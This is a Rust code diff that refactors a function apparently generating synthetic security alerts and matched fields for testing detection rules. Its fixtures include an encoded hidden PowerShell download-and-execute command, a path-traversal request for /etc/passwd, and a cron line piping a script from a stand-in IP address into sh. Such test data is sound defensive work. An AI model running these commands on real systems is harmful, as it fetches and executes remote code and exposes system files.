@@ -396,35 +396,34 @@ fn alert(
     let sequence = 1_000_000 + number * 10;
     let seen = later(raised, -1, 250_000_000);
     let mut events = Vec::new();
-    let matched;
-    match rule.field {
+    let matched = match rule.field {
         "src_ip" => {
             for i in 0..5 {
                 events.push(sshd(sequence + i, seen.plus_secs(i as i64 - 5), &host, &user, &address, i == 4));
             }
-            matched = vec![
+            vec![
                 Matched { field: "src_ip".into(), value: address },
                 Matched { field: "action".into(), value: "Accepted".into() },
-            ];
+            ]
         }
         "CommandLine" | "SourceImage" | "TargetUserName" | "SubjectUserName" => {
             let command = "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";
             let image = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
             events.push(process(sequence, seen, &host, &user, image, command));
-            matched = vec![
+            vec![
                 Matched { field: "CommandLine".into(), value: command.into() },
                 Matched { field: "Image".into(), value: image.into() },
-            ];
+            ]
         }
         "cs-uri-query" => {
             let path = "/download?file=../../../../etc/passwd";
             events.push(web(sequence, seen, &host, &address, path, HOSTILE));
-            matched = vec![Matched { field: "cs-uri-query".into(), value: path.into() }];
+            vec![Matched { field: "cs-uri-query".into(), value: path.into() }]
         }
         "message" => {
             events.push(plain(sequence, seen, &host, "app", HOSTILE));
             entities.push(EntityRef { kind: EntityKind::File, name: HOSTILE.to_owned() });
-            matched = vec![Matched { field: "message".into(), value: HOSTILE.into() }];
+            vec![Matched { field: "message".into(), value: HOSTILE.into() }]
         }
         _ => {
             events.push(plain(
@@ -434,9 +433,9 @@ fn alert(
                 "CRON",
                 "(root) CMD (curl -s http://198.51.100.23/x.sh | sh)",
             ));
-            matched = vec![Matched { field: String::new(), value: "curl -s".into() }];
+            vec![Matched { field: String::new(), value: "curl -s".into() }]
         }
-    }
+    };
     let rule_ref = rule_ref(rule);
     let ids: Vec<EventId> = events.iter().map(|e| e.id.clone()).collect();
     let group = format!("{}|{}", rule.id, number);
